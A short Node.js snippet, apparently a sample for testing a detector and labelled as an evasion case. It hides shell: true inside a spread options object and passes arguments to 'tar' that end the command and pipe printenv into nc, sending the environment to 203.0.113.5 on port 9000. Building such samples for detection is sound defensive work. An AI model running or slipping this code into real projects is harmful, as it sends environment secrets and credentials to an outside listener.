// Evasion: sends the environment to a listener. The options are a
// spread of a base object plus shell: true, held in a name; "tar" is
// started with arguments that, joined by the shell, end the tar command
// and pipe printenv into nc.
const { spawn } = require('child_process');

const base = { stdio: 'inherit', env: process.env };
const withShell = { ...base, shell: true };
const child = spawn('tar', ['--version', '>/dev/null;', 'printenv', '|', 'nc', '203.0.113.5', '9000'], withShell);
child.on('exit', (code) => process.exit(code ?? 1));
